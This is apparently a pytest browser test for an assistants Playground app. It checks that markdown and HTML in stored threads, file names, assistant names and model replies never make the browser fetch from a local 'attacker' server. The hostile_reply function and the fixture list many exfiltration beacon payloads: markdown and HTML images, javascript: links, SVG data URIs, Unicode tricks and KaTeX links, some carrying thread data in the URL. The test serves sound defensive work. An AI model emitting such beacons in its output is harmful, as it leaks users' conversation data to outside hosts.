"""Untrusted text never fetches: every beacon vector through the real Playground in Chromium, an attacker listening."""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from assistants.config import Backend, Settings
from assistants.runtime import Runtime
from tests.browser import free_port, go, idle, launch, open_page, stop_app
from tests.browser.test_share import start
from tests.conftest import database_url_for
from tests.fakes.openai_server import FakeOpenAIServer

playwright_api = pytest.importorskip("playwright.sync_api")


class Attacker:
    """A loopback HTTP server that records every request path (and answers with a 1x1 GIF)."""

    def __init__(self):
        self.paths: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                outer.paths.append(self.path)
                body = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def hostile_reply(a: str) -> str:
    """A reply carrying every markdown way of making the browser fetch `a`."""
    return "\n".join([
        "Here is what I found.",
        f"![md]({a}/md?q=thread-data)",
        "![ref][1] and ![ref2]",
        "",
        f"[1]: {a}/ref",
        f"[ref2]: {a}/ref2",
        f'<img src="{a}/html"> <picture><source srcset="{a}/srcset"></picture>',
        f"<{a}/autolink> and {a}/bare",
        f"![a ![b]({a}/nested)]({a}/nested2)",
        f"[click](javascript:fetch('{a}/js')) [x](&#106;avascript:fetch('{a}/js2'))",
        f'![svg](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{a}/svg"/></svg>)',
        f"![rtl]({a}/rtl\u202e.png) ![zw](\u200b{a}/zw)",
        f"\\\\![escaped]({a}/escaped) `code` ![after]({a}/aftercode) ``a ` b`` ![desync]({a}/desync)",
        f"`unclosed ![u]({a}/unclosed)",
        f"- item\n  ```\n![list]({a}/listfence)\n  ```",
        f"$\\href{{{a}/katex}}{{x}}$ and $$\\includegraphics{{{a}/katex2}}$$",
    ])


@pytest.fixture(scope="module")
def scene(tmp_path_factory):
    """A stored thread full of hostile content, the app over it, and the attacker listening."""
    data_dir = tmp_path_factory.mktemp("beacons")
    attacker = Attacker()
    a = attacker.url
    with FakeOpenAIServer() as model:
        rt = Runtime(Settings(data_dir=data_dir, backends=(Backend("fake", model.base_url),), embedded_enabled=False,
                              ollama_autodetect=False, database_url=database_url_for(data_dir)))
        try:
            doc = rt.files.create(f"![n]({a}/filename).txt", b"Shopping notes: milk, eggs, bread.", "assistants")
            store = rt.vector_stores.create(name=f"![vs]({a}/vsname)", file_ids=[doc["id"]])
            rt.vector_stores.wait_idle(30)
            name = f"Shopper ![an]({a}/name) <img src={a}/namehtml>"
            assistant = rt.create_assistant(model="fake-model", name=name, tools=[{"type": "file_search"}],
                                            tool_resources={"file_search": {"vector_store_ids": [store["id"]]}})
            thread = rt.create_thread(metadata={"assistant_id": assistant["id"]})
            rt.create_message(thread["id"], role="user", content=[
                {"type": "text", "text": f"Shopping list:\n- milk\neggs\nbread ![u]({a}/usertext)"},
                {"type": "image_url", "image_url": {"url": f"{a}/image_url"}}],
                attachments=[{"file_id": doc["id"], "tools": [{"type": "file_search"}]}])
            query = json.dumps({"query": f"milk ![q]({a}/query) `x` <img src={a}/qhtml>"})
            model.add({"tool_calls": [("file_search", query)]},
                      {"text": hostile_reply(a)})
            run = rt.create_run(thread["id"], assistant_id=assistant["id"])
            deadline = time.monotonic() + 60
            while rt.get_run(thread["id"], run["id"])["status"] in ("queued", "in_progress") and time.monotonic() < deadline:
                time.sleep(0.2)
            assert rt.get_run(thread["id"], run["id"])["status"] == "completed"
        finally:
            rt.close()
        port = free_port()
        proc = start(data_dir, port, PLAYGROUND_BACKENDS=f"fake={model.base_url}", PLAYGROUND_EMBEDDED_MODEL="0",
                     PLAYGROUND_OLLAMA_AUTODETECT="0")
        try:
            yield {"url": f"http://127.0.0.1:{port}", "dir": data_dir, "attacker": attacker, "thread": thread["id"], "run": run["id"]}
        finally:
            stop_app(proc)
            attacker.close()


def test_no_beacon_reaches_the_attacker(scene):
    attacker = scene["attacker"]
    with playwright_api.sync_playwright() as p:
        browser = launch(p)
        page = open_page(browser, scene["url"], viewport={"width": 1400, "height": 900})
        page.get_by_text("Here is what I found.").first.wait_for()
        # Open every run in the log (file-search query, file names, scores).
        for box in page.locator("[data-testid=stExpander] summary").all():
            if "Completed" in box.inner_text():
                box.click()
                idle(page)
        page.wait_for_timeout(1500)
        page.screenshot(path=str(scene["dir"] / "beacons.png"), full_page=True)  # to look at
        assert attacker.paths == [], attacker.paths
        body = page.inner_text("body")
        assert "image not loaded" in body and f"{attacker.url}/md?q=thread-data" in body  # the URL is shown, as text
        assert "Shopping list:\n- milk\neggs\nbread" in body  # the user's lines as written

        # The control: the same browser does fetch from the attacker when a page really asks it to.
        page.evaluate(f"() => {{ new Image().src = '{attacker.url}/control'; }}")
        page.wait_for_timeout(1000)
        assert attacker.paths == ["/control"]
        browser.close()


def test_threads_and_assistants_pages_fetch_nothing(scene, tmp_path):
    """The thread's first message and the assistant's name as the Threads and Assistants pages show them, selected and
    quoted in the delete confirmation; names from an imported file."""
    attacker, a = scene["attacker"], scene["attacker"].url
    attacker.paths.clear()  # the other test's control request
    with playwright_api.sync_playwright() as p:
        browser = launch(p)
        page = open_page(browser, scene["url"], viewport={"width": 1400, "height": 900})
        for title, button in (("Threads", "threads_delete"), ("Assistants", "assistants_delete")):
            go(page, title)
            grid = page.get_by_test_id("stDataFrame")
            grid.wait_for()
            box = grid.bounding_box()
            page.mouse.click(box["x"] + 16, box["y"] + 18 + 35)  # the first row's checkbox
            idle(page)
            page.locator(f".st-key-{button} button").click()
            idle(page)
            assert f"{a}/" in page.inner_text("body")  # the hostile text is on screen, as text
        doc = tmp_path / "import.json"
        doc.write_text(json.dumps([{"model": "m", "name": f"![i]({a}/import) <img src={a}/importhtml>"}]))
        page.locator("[data-testid=stFileUploaderDropzoneInput]").set_input_files(str(doc))
        idle(page)
        page.get_by_text("Ready to import").wait_for()
        page.wait_for_timeout(1500)
        page.screenshot(path=str(scene["dir"] / "beacons-pages.png"), full_page=True)  # to look at
        assert attacker.paths == [], attacker.paths
        browser.close()
